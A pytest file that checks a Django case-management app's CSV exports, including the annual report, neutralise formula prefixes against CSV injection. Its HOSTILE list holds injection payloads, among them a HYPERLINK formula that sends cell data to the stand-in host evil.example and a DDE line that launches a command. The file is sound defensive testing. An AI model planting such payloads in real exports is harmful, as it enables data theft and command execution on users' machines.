"""Every CSV export neutralises formula prefixes (=, +, -, @, tab, carriage return) in every cell
(OWASP CSV Injection): the helper, the annual report public and full, and a guard that no
module writes CSV around the helper."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from django.utils import timezone

from cases.lib import csv_safe
from cases.lib.csv_safe import FORMULA_PREFIXES
from cases.reporting import annual, exports
from tests.conftest import sign_in

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tleading tab",
    "\rcarriage return",
]


def read_back(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_helper_quotes_every_formula_prefix_and_leaves_the_rest():
    out = io.StringIO()
    csv_safe.writer(out).writerows([HOSTILE, ["Gang Task Force", "<5", 7, -3, 1.5, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == [f"'{value}".replace("\r", "\n") for value in HOSTILE]
    assert rows[1] == ["Gang Task Force", "<5", "7", "-3", "1.5", ""]  # numbers stay numbers


def test_no_module_writes_csv_around_the_helper():
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("cases", "federal_requests", "uvisa")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["cases/lib/csv_safe.py"]


@pytest.mark.django_db
@pytest.mark.parametrize("public", [True, False])
def test_no_cell_of_the_annual_csv_is_a_formula(public, client, people, monkeypatch):
    real = exports.sections_for

    def with_hostile_lines(report, *, public):
        hostile = annual.Section(
            title=HOSTILE[0], lines=[annual.Line(label=v, value=v, count=False) for v in HOSTILE]
        )
        return [*real(report, public=public), hostile]

    monkeypatch.setattr(exports, "sections_for", with_hostile_lines)
    monkeypatch.setattr(exports, "shown", lambda line, **_: line.value)
    sign_in(client, people["coordinator"])
    response = client.get(
        "/reports/annual/2025/", {"format": "csv", "public": "1" if public else ""}
    )
    assert response.status_code == 200
    cells = read_back(response.content.decode())
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    for value in HOSTILE:
        assert f"'{value}".replace("\r", "\n") in cells  # a line break in a cell reads as \n
    report = annual.build_annual_report(2025, now=timezone.make_aware(datetime(2026, 3, 1)))
    assert not [
        c
        for c in read_back(exports.to_csv(report, public=public))
        if c.startswith(FORMULA_PREFIXES)
    ]
